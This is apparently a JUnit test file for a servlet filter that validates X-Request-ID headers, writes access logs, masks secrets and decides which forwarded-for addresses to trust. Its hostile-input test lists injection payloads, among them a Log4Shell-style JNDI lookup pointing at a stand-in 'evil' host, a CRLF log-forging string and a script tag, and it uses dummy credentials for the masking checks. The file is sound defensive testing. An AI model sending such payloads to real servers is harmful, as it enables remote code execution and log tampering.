package dev.observability.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.spi.ILoggingEvent;
import dev.observability.core.RequestId;
import dev.observability.testing.LogCapture;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestIdAndAccessLogTest {

  private static TestServer server;
  private LogCapture access;
  private LogCapture app;

  @BeforeAll
  static void start() throws Exception {
    server =
        new TestServer(
            b ->
                b.routes("/api/tasks/{id}")
                    .userIdResolver(
                        UserIdResolver.attribute("uid").orElse(UserIdResolver.principal())));
  }

  @AfterAll
  static void stop() throws Exception {
    server.close();
  }

  @BeforeEach
  void capture() {
    access = LogCapture.of(RequestObservabilityFilter.ACCESS_LOGGER);
    app = LogCapture.of("test.app");
  }

  @AfterEach
  void release() {
    access.close();
    app.close();
  }

  private ILoggingEvent onlyAccessEvent() throws InterruptedException {
    TestServer.await(() -> !access.events().isEmpty());
    List<ILoggingEvent> events = access.events();
    assertThat(events).hasSize(1);
    return events.get(0);
  }

  @Test
  void acceptsAValidIncomingIdAndEchoesIt() throws Exception {
    HttpResponse<String> response = server.get("/api/tasks/42", "X-Request-ID", "abc-123_DEF");
    assertThat(response.headers().firstValue("X-Request-ID")).contains("abc-123_DEF");
    ILoggingEvent event = onlyAccessEvent();
    assertThat(event.getMDCPropertyMap()).containsEntry("request_id", "abc-123_DEF");
    assertThat(app.events().get(0).getMDCPropertyMap())
        .containsEntry("request_id", "abc-123_DEF")
        .containsKeys("trace_id", "span_id");
  }

  @Test
  void generatesAnIdWhenNoneIsSent() throws Exception {
    HttpResponse<String> response = server.get("/api/tasks/42");
    String id = response.headers().firstValue("X-Request-ID").orElseThrow();
    assertThat(id).hasSize(RequestId.GENERATED_LENGTH);
    assertThat(onlyAccessEvent().getMDCPropertyMap()).containsEntry("request_id", id);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "%0d%0aINFO forged",
        "${jndi:ldap://evil/a}",
        "\"quoted\"",
        "<script>",
        "semi;colon"
      })
  void replacesHostileIdsThatAnHttpClientCanSend(String hostile) throws Exception {
    HttpResponse<String> response = server.get("/api/tasks/1", "X-Request-ID", hostile);
    String id = response.headers().firstValue("X-Request-ID").orElseThrow();
    assertThat(id).isNotEqualTo(hostile).hasSize(RequestId.GENERATED_LENGTH);
    assertThat(onlyAccessEvent().getMDCPropertyMap().get("request_id")).isEqualTo(id);
  }

  @Test
  void replacesALongIdAndAnEmptyOne() throws Exception {
    String tenK = "a".repeat(10_000);
    HttpResponse<String> response = server.get("/api/tasks/1", "X-Request-ID", tenK);
    // Either Jetty refuses the oversized header outright or we replace the value; never echoed.
    assertThat(response.headers().firstValue("X-Request-ID").orElse("")).isNotEqualTo(tenK);
    assertThat(access.events())
        .allSatisfy(e -> assertThat(e.getMDCPropertyMap().get("request_id")).isNotEqualTo(tenK));
  }

  @Test
  void rawHostileBytesNeverReachTheLogOrTheResponse() throws Exception {
    String[] hostile = {
      "abc\u0085def", "\u001b[31mred", "caf\u00e9", "a\u2028b", "", "x".repeat(10_000)
    };
    for (String value : hostile) {
      String response =
          rawRequest(
              "GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: "
                  + value
                  + "\r\nConnection: close\r\n\r\n");
      String echoed = headerValue(response, "X-Request-ID");
      if (echoed != null) {
        assertThat(echoed).isNotEqualTo(value).hasSize(RequestId.GENERATED_LENGTH);
      }
    }
    String twoHeaders =
        rawRequest(
            "GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\n"
                + "X-Request-ID: first-id\r\nX-Request-ID: second-id\r\nConnection: close\r\n\r\n");
    assertThat(headerValue(twoHeaders, "X-Request-ID")).isNotIn("first-id", "second-id");
    TestServer.await(() -> access.events().size() >= 2);
    for (ILoggingEvent event : access.events()) {
      String id = event.getMDCPropertyMap().get("request_id");
      assertThat(RequestId.isValid(id)).isTrue();
      assertThat(id).isNotIn("first-id", "second-id");
      assertThat(event.getFormattedMessage() + event.getKeyValuePairs())
          .doesNotContain("\u0085", "\u001b", "\u2028", "\r", "\n");
    }
  }

  @Test
  void accessEventCarriesTheDesignFieldsAndMasksSecrets() throws Exception {
    server.get(
        "/api/tasks/99?password=hunter2&page=2",
        "User-Agent",
        "probe/1.0 jane@example.com",
        "Authorization",
        "Bearer secret-token-123",
        "Cookie",
        "session=abc");
    ILoggingEvent event = onlyAccessEvent();
    assertThat(event.getLoggerName()).isEqualTo("dev.observability.access");
    assertThat(LogCapture.keyValue(event, "method")).isEqualTo("GET");
    assertThat(LogCapture.keyValue(event, "path")).isEqualTo("/api/tasks/99");
    assertThat(LogCapture.keyValue(event, "route")).isEqualTo("/api/tasks/{id}");
    assertThat(LogCapture.keyValue(event, "status_code")).isEqualTo(200);
    assertThat(LogCapture.keyValue(event, "duration_ms")).isInstanceOf(Long.class);
    assertThat(LogCapture.keyValue(event, "ip_address")).isEqualTo("127.0.0.1");
    assertThat(LogCapture.keyValue(event, "query")).isEqualTo("password=***&page=2");
    assertThat(LogCapture.keyValue(event, "user_agent")).isEqualTo("probe/1.0 j***@example.com");
    assertThat(event.getMDCPropertyMap()).containsKeys("request_id", "trace_id", "span_id");
    String everything =
        event.getFormattedMessage() + event.getKeyValuePairs() + event.getMDCPropertyMap();
    assertThat(everything).doesNotContain("hunter2", "secret-token-123", "session=abc");
  }

  @Test
  void userIdIsTakenOnceKnown() throws Exception {
    server.get("/api/tasks/5");
    assertThat(onlyAccessEvent().getMDCPropertyMap()).doesNotContainKey("user_id");
  }

  @Test
  void spoofedForwardedForFromAnUntrustedPeerIsIgnored() throws Exception {
    server.get("/api/tasks/1", "X-Forwarded-For", "203.0.113.9", "Forwarded", "for=198.51.100.1");
    assertThat(LogCapture.keyValue(onlyAccessEvent(), "ip_address")).isEqualTo("127.0.0.1");
  }

  @Test
  void forwardedForIsBelievedFromATrustedProxy() throws Exception {
    try (TestServer trusting = new TestServer(b -> b.trustedProxies("127.0.0.0/8"))) {
      trusting.get("/api/tasks/1", "X-Forwarded-For", "203.0.113.9, 127.0.0.5");
      assertThat(LogCapture.keyValue(onlyAccessEvent(), "ip_address")).isEqualTo("203.0.113.9");
    }
  }

  @Test
  void severalForwardedForLinesAreJoinedSoAClientSuppliedFirstLineIsNeverBelieved()
      throws Exception {
    try (TestServer trusting = new TestServer(b -> b.trustedProxies("127.0.0.0/8"))) {
      // The client sent the first line itself; the trusted proxy appended the second.
      rawRequest(
          trusting.port(),
          "GET /api/tasks/1 HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 6.6.6.6\r\n"
              + "X-Forwarded-For: 198.51.100.7\r\nConnection: close\r\n\r\n");
      assertThat(LogCapture.keyValue(onlyAccessEvent(), "ip_address")).isEqualTo("198.51.100.7");
    }
  }

  @Test
  void credentialsInQueryParametersAndEncodedEmailsAreMasked() throws Exception {
    server.get(
        "/api/tasks/3?code=4%2F0AeanS0bL2&key=AIzaSyDdI0hCZtE6vySjMm&sig=Xy9ab12&contact=jane%40example.com&page=2");
    assertThat(LogCapture.keyValue(onlyAccessEvent(), "query"))
        .isEqualTo("code=***&key=***&sig=***&contact=j***%40example.com&page=2");
  }

  @Test
  void skippedPathsGetNoAccessEvent() throws Exception {
    assertThat(server.get("/metrics").statusCode()).isEqualTo(200);
    server.get("/api/tasks/1");
    TestServer.await(() -> !access.events().isEmpty());
    assertThat(access.events())
        .extracting(e -> LogCapture.keyValue(e, "path"))
        .containsExactly("/api/tasks/1");
  }

  private String rawRequest(String request) throws Exception {
    return rawRequest(server.port(), request);
  }

  private static String rawRequest(int port, String request) throws Exception {
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout(10_000);
      OutputStream out = socket.getOutputStream();
      out.write(request.getBytes(StandardCharsets.UTF_8));
      out.flush();
      InputStream in = socket.getInputStream();
      return new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
    }
  }

  private static String headerValue(String response, String name) {
    for (String line : response.split("\r\n")) {
      if (line.isEmpty()) {
        break;
      }
      if (line.regionMatches(true, 0, name + ":", 0, name.length() + 1)) {
        return line.substring(name.length() + 1).trim();
      }
    }
    return null;
  }
}
